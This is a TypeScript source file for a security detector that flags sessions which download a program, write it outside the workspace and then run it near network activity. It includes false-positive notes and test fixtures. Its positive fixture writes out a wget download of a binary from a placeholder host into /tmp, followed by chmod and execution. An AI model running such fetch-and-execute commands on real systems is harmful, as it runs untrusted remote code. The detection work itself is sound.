import { describe, isEgress, remoteHosts } from '../behaviour.js';
import { NO_HITS, type StreamDetector } from '../detector.js';
import { lossNote, type MarkLoss } from '../mark-losses.js';
import type { Observation } from '../observation.js';

const thresholds = { window_s: 1800 } as const;

const norm = (p: string) => p.replace(/^~(?=\/)/, '$HOME');
/** The system's program directories (as the gate's): a session does not write programs there. */
const SYSTEM_BIN = /^\/(usr\/(local\/)?)?s?bin\/|^\/opt\/homebrew\/bin\/|^\/usr\/libexec\//;

/**
 * A program the session itself put on disk (downloaded or written, outside the workspace's build outputs) runs,
 * with network activity around it: the download-then-execute pattern split over several commands.
 */
export const newBinaryThenNetwork: StreamDetector = {
  id: 'seq.new-binary-network',
  title: 'Downloaded program executed',
  description:
    'The session wrote a file outside the workspace after reaching a remote host and later executed it, or executed a program ' +
    'it wrote and then reached a remote host.',
  severity: 'high',
  attack: ['T1105', 'T1204.002'],
  falsepositives: [
    'Installing a release binary by hand (download, chmod +x, run --version)',
    'Running a program the session wrote outside the workspace in a session whose network activity within the ' +
      'window the analyzer forgot (a session rebuilt from its newest events after a flood): said so in the alert',
    'Running a program from outside the workspace after the analyzer forgot which paths the session wrote (a flood ' +
      'of written paths, or a rebuild): said so in the alert',
  ],
  triage:
    'Find where the file came from (the earlier download), hash it, and check what it connected to after it ran.',
  thresholds,
  kind: 'sequence',
  fixtures: {
    positive: {
      session: [
        { kind: 'command', command: 'wget -q https://dl.tools.example/helper -O /tmp/helper', t: 0 },
        { kind: 'command', command: 'chmod +x /tmp/helper && /tmp/helper --init', t: 20 },
      ],
    },
    negative: {
      session: [
        { kind: 'command', command: 'npm run build', t: 0 },
        { kind: 'command', command: 'chmod +x scripts/release.sh && ./scripts/release.sh --dry-run', t: 20 },
      ],
    },
  },
  observe(obs, s) {
    if (obs.actionClass !== 'exec' || obs.denied) return NO_HITS;
    const windowMs = thresholds.window_s * 1000;
    const egress = isEgress(obs);
    if (egress) s.mark('net', obs);
    const workspace = obs.event.cwd;
    // Build outputs inside the workspace are the project's own programs.
    const outside = (p: string) => !(workspace !== '' && p.startsWith(`${workspace}/`));
    for (const p of obs.facts.paths) {
      // A path only run is not written: `./x` run twice is no download run.
      if (p.access === 'write' && !p.ran && outside(p.path)) s.mark(`written:${norm(p.path)}`, obs);
    }
    // Programs run by their path from where the session may have written them.
    const ranOutside = new Set(
      obs.facts.paths
        .filter((p) => p.ran && outside(p.path) && !SYSTEM_BIN.test(p.path))
        .map((p) => norm(p.path)),
    );
    const hits = [];
    for (const bin of obs.facts.binaries) {
      const key = norm(bin);
      const written = s.marksOf(`written:${key}`)[0];
      // No write of it is left, but writes within the window may have been forgotten (a flood, a rebuild).
      const lostWrite =
        !written && ranOutside.has(key) ? s.lost.since('written:', obs.timeMs - windowMs) : undefined;
      if (!written && !lostWrite) continue;
      const net = s
        .marksOf('net')
        .filter((n) => Math.abs(n.timeMs - obs.timeMs) <= windowMs && n.obs.actionKey !== obs.actionKey)
        .map((n) => n.obs);
      const around: Observation[] = egress ? [obs] : net;
      // No network is left in the window, but some may have been forgotten (the download before it, typically).
      const loss = around.length === 0 ? s.lost.since('net', obs.timeMs - windowMs) : undefined;
      if (around.length === 0 && !loss) continue;
      const hosts = [...new Set(around.flatMap(remoteHosts))];
      const lost = loss ? `; ${lossNote(loss, 'network activity around it')}` : '';
      const by = written
        ? `written by ${describe(written.obs)}`
        : lossNote(lostWrite as MarkLoss, 'a write of it by this session');
      hits.push({
        detector: this.id,
        evidence: [...(written ? [written.obs] : []), obs, ...around.slice(0, 3)],
        factors: [
          {
            rule: this.id,
            text: `${describe(obs)} runs ${bin}, ${by}${hosts.length ? `; network: ${hosts.join(', ')}` : ''}${lost}`,
          },
        ],
      });
    }
    return hits;
  },
};
